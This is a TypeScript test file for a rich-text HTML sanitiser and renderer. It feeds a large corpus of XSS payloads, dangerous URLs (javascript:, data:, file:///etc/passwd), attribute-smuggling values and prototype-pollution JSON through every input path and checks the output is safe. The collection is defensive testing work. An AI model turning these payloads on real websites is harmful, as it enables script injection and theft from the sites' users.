import { Parser } from 'htmlparser2'
import { afterAll, describe, expect, test } from 'vitest'
import { parseRichTextField, RichTextDocumentSchema } from './document.ts'
import { EditorLimits, LINK_REL } from './extensions.ts'
import { renderRichText, safeRenderRichText, sanitizeRichTextHtml } from './render.server.ts'

/**
 * Hostile input through every door: HTML typed as text, HTML given straight to the sanitiser,
 * the same strings in every attribute a document has, and hand-crafted ProseMirror JSON. Every
 * output must pass `expectSafeHtml`.
 */

const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = {
  p: [],
  h2: [],
  h3: [],
  h4: [],
  strong: [],
  em: [],
  s: [],
  code: ['class'],
  pre: ['class'],
  blockquote: [],
  ul: [],
  ol: ['start'],
  li: [],
  br: [],
  hr: [],
  a: ['href', 'rel', 'class'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
  img: ['src', 'alt'],
}
const VOID_TAGS = new Set(['br', 'hr', 'img'])

type Inspection = { problems: string[]; text: string }

/** Parses like a browser's tokenizer (entities decoded) and lists everything not allowed. */
function inspectHtml(html: string): Inspection {
  const problems: string[] = []
  const open: string[] = []
  let text = ''
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        const allowed = ALLOWED_ATTRIBUTES[name]
        if (!allowed) problems.push(`tag <${name}>`)
        for (const [attribute, value] of Object.entries(attribs)) {
          if (!allowed?.includes(attribute)) problems.push(`attribute ${name}[${attribute}]`)
          if (attribute !== 'href' && attribute !== 'src') continue
          // Browsers ignore control characters and whitespace inside a scheme.
          const squashed = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase()
          if (/(?:javascript|vbscript|data|livescript|mocha):/.test(squashed)) problems.push(`URL ${name}[${attribute}]=${value}`)
        }
        if (name === 'a' && attribs.class === 'mention') {
          // A mention: a member page of ours, no rel needed.
          if (!/^\/medlemmar\/[a-z0-9]+$/.test(attribs.href ?? '') || attribs.rel !== undefined) problems.push(`mention ${attribs.href} ${attribs.rel}`)
        } else if (name === 'a') {
          if (attribs.class !== undefined) problems.push(`class ${attribs.class}`)
          if (attribs.rel !== LINK_REL) problems.push(`<a> without rel: ${attribs.rel}`)
          if (attribs.href !== undefined && !/^(?:https?:\/\/[^/]|mailto:)/i.test(attribs.href)) problems.push(`href ${attribs.href}`)
        }
        if (name === 'img' && !/^\/filer\/[A-Za-z0-9_-]/.test(attribs.src ?? '')) problems.push(`img src ${attribs.src}`)
        if (name === 'code' || name === 'pre') {
          if (attribs.class !== undefined && !/^language-[a-z0-9-]+$/.test(attribs.class)) problems.push(`class ${attribs.class}`)
        }
        if (!VOID_TAGS.has(name)) open.push(name)
      },
      onclosetag(name, isImplied) {
        if (VOID_TAGS.has(name)) return
        const expected = open.pop()
        if (isImplied || expected !== name) problems.push(`unbalanced </${name}> (open: ${expected})`)
      },
      ontext(chunk) {
        text += chunk
      },
      oncomment() {
        problems.push('comment')
      },
      onprocessinginstruction(name) {
        problems.push(`instruction ${name}`)
      },
    },
    { decodeEntities: true, lowerCaseTags: false, lowerCaseAttributeNames: false },
  )
  parser.write(html)
  parser.end()
  if (open.length > 0) problems.push(`unclosed ${open.join(',')}`)
  return { problems, text }
}

function expectSafeHtml(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<svg|<object|<embed|<math|<style|<link|<meta|<base|<form|<input|<button|<template/i)
  // An on…= or style= attribute in any tag (the sanitiser always double-quotes values, so
  // attribute text such as alt="x onerror=y" is skipped as a quoted value, as a browser does).
  expect(html).not.toMatch(/<[a-z][a-z0-9]*(?:\s+[^\s"'>/=]+(?:="[^"]*")?)*\s+(?:on[a-z]+|style)\s*=/i)
  expect(inspectHtml(html).problems).toEqual([])
  // Well-formed and already minimal: sanitising again changes nothing.
  expect(sanitizeRichTextHtml(html)).toBe(html)
}

test('the safety check itself catches unsafe or malformed HTML', () => {
  const unsafe = [
    '<p onclick="x">a</p>',
    '<p class="a" style="color:red">a</p>',
    `<a href="jav&#x09;ascript:alert(1)" rel="${LINK_REL}">a</a>`,
    `<a href="https://a.se" rel="${LINK_REL}" target="_blank">a</a>`,
    '<a href="https://a.se">utan rel</a>',
    '<a class="mention" href="/admin">a</a>',
    '<a class="mention" href="https://evil.se/medlemmar/x">a</a>',
    `<a class="evil" href="https://a.se" rel="${LINK_REL}">a</a>`,
    '<img src="/filer/a" alt="x" onerror="y" />',
    '<img src="https://evil.se/a.png" />',
    '<svg></svg>',
    '<p>a',
    '<p><strong>a</p></strong>',
    '<div>a</div>',
  ]
  for (const html of unsafe) expect(() => expectSafeHtml(html), html).toThrow()
})

// -------------------------------------------------------------------------------------------
// (a) HTML, typed by a member into a paragraph, pasted into the textarea or fed to the sanitiser.

const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  '<script>/*</script><script>*/alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">klicka</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#0000009script:alert(1)">x</a>',
  '<a href="jav&NewLine;ascript:alert(1)">x</a>',
  '<a href="https://ok.se" onmouseover="alert(1)">x</a>',
  '<a href="https://ok.se" target="_blank">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p style="behavior: url(x.htc)">x</p>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(\'XSS\')">x',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<xss id=x tabindex=1 onfocusin=alert(1)></xss>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="https://ok.se/"><img src=x onerror=alert(1)></a>',
  '<img src="/filer/ok.png" onerror="alert(1)">',
  '<img src="/filer/../../etc/passwd">',
  '<x onclick=alert(1)>klick</x>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<style>@import "javascript:alert(1)";</style>',
  '<pre class="language-js" onclick="x"><code class="language-x evil">1</code></pre>',
  '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
  '<td colspan="2" onclick="alert(1)">x</td>',
  '<p>unclosed <strong>bold <em>nested</p>',
  '</p></p></ul></table>',
  '<a href="https://ok.se">https://ok.se"onclick="alert(1)</a>',
  'Se https://example.se/"><script>alert(1)</script> och mailto:x@y.se"onclick=alert(1)',
  'http://example.se/<img src=x onerror=alert(1)>',
  'text\u0000<script>alert(1)</script>',
  '\u202Efdp.exe<script>alert(1)</script>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a class="mention" href="javascript:alert(1)">@x</a>',
  '<a class="mention" href="/medlemmar/../admin">@x</a>',
  '<a class="mention" href="/medlemmar/abc" onclick="alert(1)" rel="opener">@x</a>',
  '<span data-type="mention" data-id="javascript:alert(1)" data-label="<img src=x onerror=alert(1)>">@x</span>',
]

test('the HTML corpus is large enough', () => {
  expect(HTML_PAYLOADS.length).toBeGreaterThanOrEqual(50)
})

describe.each(HTML_PAYLOADS.map((payload, index) => [index, payload] as const))('HTML payload #%i', (_index, payload) => {
  test('typed into a paragraph it comes out as escaped text', () => {
    const html = safeRenderRichText({ type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: payload }] }] })
    expectSafeHtml(html)
    if (html) expect(inspectHtml(html).text).toBe(payload)
    else expect(payload).toMatch(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e]/)
  })

  test('typed into the no-JavaScript textarea it comes out safe', () => {
    const parsed = parseRichTextField(payload)
    expect(parsed.ok).toBe(true)
    if (parsed.ok) expectSafeHtml(renderRichText(parsed.doc))
  })

  test('given straight to the sanitiser it comes out safe', () => {
    expectSafeHtml(sanitizeRichTextHtml(payload))
  })

  test('in every attribute of a document it is refused or rendered safe', () => {
    const text = (marks: unknown[]) => ({ type: 'text', text: 'x', marks })
    const documents = [
      { type: 'paragraph', content: [text([{ type: 'link', attrs: { href: payload } }])] },
      {
        type: 'paragraph',
        content: [text([{ type: 'link', attrs: { href: 'https://ok.se', title: payload, target: payload, rel: payload, class: payload } }])],
      },
      { type: 'image', attrs: { src: payload } },
      { type: 'image', attrs: { src: '/filer/ok.png', alt: payload, title: payload } },
      { type: 'codeBlock', attrs: { language: payload }, content: [{ type: 'text', text: payload }] },
      { type: 'heading', attrs: { level: payload }, content: [{ type: 'text', text: 'x' }] },
      { type: 'orderedList', attrs: { start: payload }, content: [{ type: 'listItem', content: [{ type: 'paragraph' }] }] },
      { type: payload, content: [{ type: 'text', text: 'x' }] },
      { type: 'paragraph', content: [text([{ type: payload }])] },
      { type: 'paragraph', content: [{ type: 'mention', attrs: { id: payload, label: 'x' } }] },
      { type: 'paragraph', content: [{ type: 'mention', attrs: { id: 'cm1member', label: payload, mentionSuggestionChar: payload } }] },
      { type: 'paragraph', content: [{ type: 'mention', attrs: { id: 'cm1member', label: payload } }] },
    ].map((node) => ({ type: 'doc', content: [node] }))
    for (const document of documents) expectSafeHtml(safeRenderRichText(document))
  })
})

// -------------------------------------------------------------------------------------------
// (b) Crafted ProseMirror JSON.

const BAD_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0000javascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'DATA:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'feed:javascript:alert(1)',
  'file:///etc/passwd',
  'blob:https://example.se/uuid',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/filer/x" onerror="alert(1)',
  '/filer/../admin',
  'https://example.se/"><script>alert(1)</script>',
  'https://example.se/" onmouseover="alert(1)',
  `https://example.se/${'a'.repeat(5000)}`,
]

const paragraphWith = (...content: unknown[]) => ({ type: 'doc', content: [{ type: 'paragraph', content }] })
const mention = (id: unknown, label: unknown) => ({ type: 'mention', attrs: { id, label } })
const textWithMarks = (marks: unknown[]) => paragraphWith({ type: 'text', text: 'x', marks })
const nested = (depth: number, wrap: (inner: unknown) => unknown, leaf: unknown) => {
  let node = leaf
  for (let level = 0; level < depth; level += 1) node = wrap(node)
  return node
}
const deepList = nested(1000, (inner) => ({ type: 'bulletList', content: [{ type: 'listItem', content: [{ type: 'paragraph' }, inner] }] }), {
  type: 'paragraph',
})
const deepQuote = nested(1000, (inner) => ({ type: 'blockquote', content: [inner] }), { type: 'paragraph' })
const cyclic: { type: string; content: unknown[] } = { type: 'doc', content: [] }
cyclic.content.push(cyclic)

type Case = { name: string; value: unknown; outcome: 'refused' | 'safe' }
const refused = (name: string, value: unknown): Case => ({ name, value, outcome: 'refused' })
const safe = (name: string, value: unknown): Case => ({ name, value, outcome: 'safe' })

const JSON_CASES: Case[] = [
  ...BAD_URLS.map((url) => refused(`link href ${JSON.stringify(url.slice(0, 40))}`, textWithMarks([{ type: 'link', attrs: { href: url } }]))),
  ...BAD_URLS.map((url) => refused(`image src ${JSON.stringify(url.slice(0, 40))}`, { type: 'doc', content: [{ type: 'image', attrs: { src: url } }] })),
  refused('script as a node type', { type: 'doc', content: [{ type: 'script', content: [{ type: 'text', text: 'alert(1)' }] }] }),
  refused('iframe node', { type: 'doc', content: [{ type: 'iframe', attrs: { src: 'javascript:alert(1)' } }] }),
  refused('svg node', { type: 'doc', content: [{ type: 'svg', attrs: { onload: 'alert(1)' } }] }),
  refused('object node', { type: 'doc', content: [{ type: 'object', attrs: { data: 'javascript:alert(1)' } }] }),
  refused('embed node', { type: 'doc', content: [{ type: 'embed', attrs: { src: 'data:text/html,x' } }] }),
  refused('style node', { type: 'doc', content: [{ type: 'style', content: [{ type: 'text', text: '*{}' }] }] }),
  refused('div node', { type: 'doc', content: [{ type: 'div', content: [{ type: 'paragraph' }] }] }),
  refused('heading level 1', { type: 'doc', content: [{ type: 'heading', attrs: { level: 1 }, content: [{ type: 'text', text: 'x' }] }] }),
  refused('unknown mark', textWithMarks([{ type: 'span', attrs: { style: 'color:red' } }])),
  refused('script mark', textWithMarks([{ type: 'script' }])),
  refused('underline mark (not in our format)', textWithMarks([{ type: 'underline' }])),
  refused('onclick attribute on a paragraph', { type: 'doc', content: [{ type: 'paragraph', attrs: { onclick: 'alert(1)' } }] }),
  refused('style attribute on a paragraph', { type: 'doc', content: [{ type: 'paragraph', attrs: { style: 'background:url(javascript:alert(1))' } }] }),
  refused('onerror attribute on an image', { type: 'doc', content: [{ type: 'image', attrs: { src: '/filer/a.png', onerror: 'alert(1)' } }] }),
  refused('style attribute on a table', { type: 'doc', content: [{ type: 'table', attrs: { style: 'x' }, content: [] }] }),
  refused('onclick on a link mark', textWithMarks([{ type: 'link', attrs: { href: 'https://ok.se', onclick: 'alert(1)' } }])),
  refused('onclick beside attrs', { type: 'doc', content: [{ type: 'paragraph', onclick: 'alert(1)' }] }),
  refused('huge colspan', {
    type: 'doc',
    content: [{ type: 'table', content: [{ type: 'tableRow', content: [{ type: 'tableCell', attrs: { colspan: 1e9 }, content: [{ type: 'paragraph' }] }] }] }],
  }),
  refused('colspan smuggling an attribute', {
    type: 'doc',
    content: [
      {
        type: 'table',
        content: [{ type: 'tableRow', content: [{ type: 'tableCell', attrs: { colspan: '2" onclick="x' }, content: [{ type: 'paragraph' }] }] }],
      },
    ],
  }),
  refused('list start smuggling an attribute', {
    type: 'doc',
    content: [{ type: 'orderedList', attrs: { start: '1" onclick="x' }, content: [{ type: 'listItem', content: [{ type: 'paragraph' }] }] }],
  }),
  safe('code block language smuggling an attribute', {
    type: 'doc',
    content: [{ type: 'codeBlock', attrs: { language: 'js" onclick="alert(1)' }, content: [{ type: 'text', text: '1' }] }],
  }),
  safe('alt text with markup', {
    type: 'doc',
    content: [{ type: 'image', attrs: { src: '/filer/a.png', alt: '"><script>alert(1)</script><img src=x onerror=alert(1)>' } }],
  }),
  refused('nested marks: 1000 of them', textWithMarks(Array.from({ length: 1000 }, () => ({ type: 'bold' })))),
  refused('the same mark twice', textWithMarks([{ type: 'italic' }, { type: 'italic' }])),
  refused(
    'a link inside a link',
    textWithMarks([
      { type: 'link', attrs: { href: 'https://a.se' } },
      { type: 'link', attrs: { href: 'javascript:alert(1)' } },
    ]),
  ),
  safe(
    'every allowed mark at once',
    textWithMarks([{ type: 'bold' }, { type: 'italic' }, { type: 'strike' }, { type: 'link', attrs: { href: 'https://ok.se' } }]),
  ),
  refused('lists nested 1000 deep', { type: 'doc', content: [deepList] }),
  refused('quotes nested 1000 deep', { type: 'doc', content: [deepQuote] }),
  refused('a document that contains itself', cyclic),
  refused('text over the limit', paragraphWith({ type: 'text', text: 'a'.repeat(EditorLimits.maxTextLength + 1) })),
  refused('50,000 paragraphs', { type: 'doc', content: Array.from({ length: 50_000 }, () => ({ type: 'paragraph' })) }),
  refused('JSON over the byte limit', {
    type: 'doc',
    content: Array.from({ length: 1000 }, () => ({ type: 'image', attrs: { src: `/filer/${'a'.repeat(300)}` } })),
  }),
  refused('very long href', textWithMarks([{ type: 'link', attrs: { href: `https://example.se/?q=${'x'.repeat(EditorLimits.maxHrefLength)}` } }])),
  refused('text with NUL', paragraphWith({ type: 'text', text: 'a\u0000<script>alert(1)</script>' })),
  refused('text with a right-to-left override', paragraphWith({ type: 'text', text: 'faktura\u202Efdp.exe' })),
  refused('text with a lone surrogate', paragraphWith({ type: 'text', text: 'a\ud800b' })),
  refused('empty text node', paragraphWith({ type: 'text', text: '' })),
  refused('text that is not a string', paragraphWith({ type: 'text', text: { toString: 'alert(1)' } })),
  refused('content that is not an array', { type: 'doc', content: '<script>alert(1)</script>' }),
  refused('content with null', { type: 'doc', content: [null] }),
  refused('text directly in the document', { type: 'doc', content: [{ type: 'text', text: '<script>alert(1)</script>' }] }),
  refused('list item outside a list', { type: 'doc', content: [{ type: 'listItem', content: [{ type: 'paragraph' }] }] }),
  refused('table cell outside a row', { type: 'doc', content: [{ type: 'tableCell', content: [{ type: 'paragraph' }] }] }),
  refused('wrong root type', { type: 'paragraph', content: [] }),
  refused('__proto__ at the root', JSON.parse('{"type":"doc","content":[{"type":"paragraph"}],"__proto__":{"polluted":true}}')),
  refused('__proto__ in attrs', JSON.parse('{"type":"doc","content":[{"type":"paragraph","attrs":{"__proto__":{"onclick":"alert(1)","polluted":true}}}]}')),
  refused(
    '__proto__ in a mark',
    JSON.parse(
      '{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":"x","marks":[{"type":"bold","__proto__":{"polluted":true}}]}]}]}',
    ),
  ),
  refused(
    'constructor.prototype in attrs',
    JSON.parse('{"type":"doc","content":[{"type":"paragraph","attrs":{"constructor":{"prototype":{"polluted":true}}}}]}'),
  ),
  refused('null', null),
  refused('undefined', undefined),
  refused('a number', 42),
  refused('NaN', Number.NaN),
  refused('a boolean', true),
  refused('an array', [{ type: 'doc', content: [] }]),
  refused('a function', () => '<script>alert(1)</script>'),
  refused('a symbol', Symbol('doc')),
  refused('a bigint', 10n),
  refused('a Date', new Date(0)),
  refused('a Map', new Map([['type', 'doc']])),
  refused('malformed JSON string', '{"type":"doc","content":[{"type":"paragraph"'),
  refused('JSON string of null', 'null'),
  refused('JSON string of an array', '[1,2,3]'),
  refused('JSON string with script', '{"type":"doc","content":[{"type":"script"}]}'),
  refused('HTML string', '<p onclick="alert(1)">x</p>'),
  refused('deeply nested JSON string', `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
  safe('HTML in text is escaped', paragraphWith({ type: 'text', text: '<img src=x onerror=alert(1)>' })),
  ...BAD_URLS.map((url) => refused(`mention id ${JSON.stringify(url.slice(0, 40))}`, paragraphWith(mention(url, 'x')))),
  refused('mention id with a path', paragraphWith(mention('../../admin', 'x'))),
  refused('mention id smuggling an attribute', paragraphWith(mention('abc" onclick="alert(1)', 'x'))),
  refused('mention id over the length limit', paragraphWith(mention('a'.repeat(EditorLimits.maxMentionIdLength + 1), 'x'))),
  refused('mention id that is not a string', paragraphWith(mention({ toString: 'javascript:alert(1)' }, 'x'))),
  refused('mention without an id', paragraphWith({ type: 'mention', attrs: { label: 'x' } })),
  refused('huge mention label', paragraphWith(mention('cm1member', 'A'.repeat(EditorLimits.maxMentionLabelLength + 1)))),
  refused('mention label of 100,000 characters', paragraphWith(mention('cm1member', 'A'.repeat(100_000)))),
  refused('mention label with a right-to-left override', paragraphWith(mention('cm1member', 'Anna\u202Eexe'))),
  refused('mention label that is not a string', paragraphWith(mention('cm1member', ['<script>alert(1)</script>']))),
  refused('mention with an onclick attribute', paragraphWith({ type: 'mention', attrs: { id: 'cm1member', label: 'x', onclick: 'alert(1)' } })),
  refused('mention with an href attribute', paragraphWith({ type: 'mention', attrs: { id: 'cm1member', label: 'x', href: 'javascript:alert(1)' } })),
  refused(
    'mention with another trigger character',
    paragraphWith({ type: 'mention', attrs: { id: 'cm1member', label: 'x', mentionSuggestionChar: '<script>' } }),
  ),
  refused('mention with content', paragraphWith({ ...mention('cm1member', 'x'), content: [{ type: 'text', text: '<script>alert(1)</script>' }] })),
  refused('mention as a block', { type: 'doc', content: [mention('cm1member', 'x')] }),
  refused('mention in a code block', { type: 'doc', content: [{ type: 'codeBlock', content: [mention('cm1member', 'x')] }] }),
  safe('mention label with HTML', paragraphWith(mention('cm1member', '"><script>alert(1)</script><img src=x onerror=alert(1)>'))),
  safe(
    'mention with a link mark (marks on mentions are dropped)',
    paragraphWith({ ...mention('cm1member', 'x'), marks: [{ type: 'link', attrs: { href: 'https://ok.se' } }] }),
  ),
]

test('the JSON corpus is large enough', () => {
  expect(JSON_CASES.length).toBeGreaterThanOrEqual(50)
})

describe.each(JSON_CASES.map((jsonCase) => [jsonCase.name, jsonCase] as const))('JSON: %s', (_name, jsonCase) => {
  test(jsonCase.outcome === 'refused' ? 'is refused and renders nothing' : 'renders safely', () => {
    const html = safeRenderRichText(jsonCase.value)
    expectSafeHtml(html)
    if (jsonCase.outcome === 'refused') expect(html).toBe('')
    else expect(html).not.toBe('')
  })

  test('through the form field it is refused or rendered safe', () => {
    let field: string | undefined
    try {
      field = typeof jsonCase.value === 'string' ? jsonCase.value : JSON.stringify(jsonCase.value)
    } catch {
      field = undefined // cycles and bigints cannot even be sent
    }
    if (field === undefined) return
    const parsed = parseRichTextField(field)
    if (parsed.ok) expectSafeHtml(renderRichText(parsed.doc))
    const looksLikeDocument = typeof jsonCase.value === 'object' && jsonCase.value !== null && (jsonCase.value as { type?: unknown }).type === 'doc'
    if (looksLikeDocument && jsonCase.outcome === 'refused') expect(parsed.ok).toBe(false)
  })
})

test('validation never pollutes Object.prototype', () => {
  for (const jsonCase of JSON_CASES) RichTextDocumentSchema.safeParse(jsonCase.value)
  expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  expect(({} as Record<string, unknown>).onclick).toBeUndefined()
})

afterAll(() => {
  expect(Object.prototype).not.toHaveProperty('polluted')
})
